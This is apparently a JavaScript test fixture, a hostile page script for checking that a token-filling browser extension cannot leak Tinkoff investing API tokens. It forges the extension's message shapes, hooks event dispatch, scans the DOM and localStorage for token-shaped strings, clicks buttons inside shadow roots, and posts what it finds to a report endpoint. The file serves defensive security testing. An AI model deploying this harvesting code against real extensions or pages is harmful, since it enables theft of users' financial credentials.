// Hostile page script (served on the real Logos origin in "attack" mode and on look-alikes).
// It forges what an extension's page-side messages could look like and records anything
// token-shaped it can observe, then reports it to its server. The test expects no token.
(() => {
  'use strict';
  const TOKEN = /t\.[A-Za-z0-9_-]{60,}/;
  // data-click="1": the script also selects «Тинькофф» itself with an untrusted click.
  const selfClick = !!(document.currentScript && document.currentScript.dataset.click === '1');
  const seen = [];
  const note = (where, value) => {
    let s;
    try { s = typeof value === 'string' ? value : JSON.stringify(value); } catch (e) { s = String(value); }
    if (s && TOKEN.test(s)) seen.push({ where, value: s.slice(0, 500) });
  };

  // 1. Listen to everything a page can listen to.
  window.addEventListener('message', (e) => note('message:' + e.origin, e.data), true);
  // The test may tell the attacker a real token id (as if it had learned it somehow).
  const knownId = (document.currentScript && document.currentScript.dataset.tokenId) || 'tok_0000000000000000';
  const names = ['tokenbridge:candidate', 'tokenbridge', 'tokenbridge:fill', 'tokenbridge-fill', 'tokenbridge:secret', 'tokenbridge:response',
    'tokenbridge:request', 'tb:fill', 'tb-fill', 'fill', 'autofill', 'token', 'secret', 'extension-message',
    'input', 'change', 'beforeinput'];
  for (const n of names) {
    for (const t of [window, document]) {
      t.addEventListener(n, (e) => {
        note('event:' + n, e.detail);
        if (e.target && 'value' in e.target) note('event-target:' + n, e.target.value);
      }, true);
    }
  }
  const origDispatch = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function (ev) {
    try { note('dispatch:' + ev.type, ev.detail); } catch (e) { /* ignore */ }
    return origDispatch.call(this, ev);
  };
  const scan = () => {
    for (const el of document.querySelectorAll('input, textarea')) note('field', el.value);
    note('dom', document.documentElement.outerHTML);
    try { note('storage', JSON.stringify({ ...localStorage })); } catch (e) { /* ignore */ }
  };
  new MutationObserver(scan).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });

  // 2. Forge requests in every shape we can think of.
  const forged = [
    { type: 'tokenbridge:fill' }, { type: 'TOKENBRIDGE_FILL' }, { type: 'fill', provider: 'tinvest' },
    { source: 'tokenbridge', cmd: 'get', purpose: 'fill', origin: 'https://logos-up.com' },
    { source: 'tokenbridge-content', direction: 'to-page', cmd: 'list' },
    { cmd: 'get', token_id: 'tok_0000000000000000', purpose: 'copy' },
    { tokenbridge: true, action: 'getSecret' }, { action: 'fill', target: 'token' },
    { id: '1', cmd: 'list' }, { id: '2', cmd: 'get', purpose: 'fill', origin: 'https://logos-up.com' },
    // The extension's own internal message shapes (content script ↔ background).
    { type: 'tb:fill-candidates' }, { type: 'tb:fill-secret', token_id: knownId },
    { type: 'tb:fill-request', token_id: knownId }, { type: 'tb:copy', token_id: knownId },
    { type: 'tb:list' }, { id: '3', cmd: 'get', token_id: knownId, purpose: 'fill', origin: 'https://logos-up.com' },
  ];
  window.__tbForged = forged; // extended by the test with the extension's real message shapes
  const fire = () => {
    for (const m of window.__tbForged) {
      window.postMessage(m, '*');
      try { window.postMessage(JSON.stringify(m), '*'); } catch (e) { /* ignore */ }
      for (const n of names.slice(0, 12)) {
        document.dispatchEvent(new CustomEvent(n, { detail: m, bubbles: true }));
        window.dispatchEvent(new CustomEvent(n, { detail: JSON.stringify(m) }));
      }
    }
    // Ask an extension directly, as a web page could if it were externally connectable.
    try {
      if (window.chrome && chrome.runtime && chrome.runtime.sendMessage) {
        for (const m of [{ cmd: 'get', purpose: 'fill' }, { type: 'tb:fill-secret', token_id: knownId }]) {
          chrome.runtime.sendMessage('hodkpdeoebfagkfdfjfhcfnbemcgabcj', m, (r) => note('runtime', r));
        }
      }
    } catch (e) { /* not connectable */ }
    // Untrusted clicks: choose «Тинькофф», press every button including injected ones.
    if (selfClick) {
      for (const b of document.querySelectorAll('button, [role=button]')) {
        if (/Тинькофф/.test(b.textContent) && b.getAttribute('aria-pressed') !== 'true') b.click();
      }
    }
    for (const host of document.querySelectorAll('*')) {
      if (host.shadowRoot) for (const b of host.shadowRoot.querySelectorAll('button, [role=button]')) b.click();
    }
    const f = [...document.querySelectorAll('input')].find((i) => i.placeholder === 'Токен');
    if (f) { f.focus(); f.dispatchEvent(new FocusEvent('focusin', { bubbles: true })); f.click(); }
    scan();
  };
  let rounds = 0;
  const report = () => {
    scan();
    fetch('/__report', {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ items: seen.splice(0), rounds }),
    }).catch(() => {});
  };
  const timer = setInterval(() => {
    rounds++;
    fire();
    if (rounds % 3 === 0) report();
    if (rounds >= 12) { clearInterval(timer); report(); window.__tbAttackDone = true; }
  }, 150);
  window.__tbAttackReport = () => { report(); return rounds; };
})();
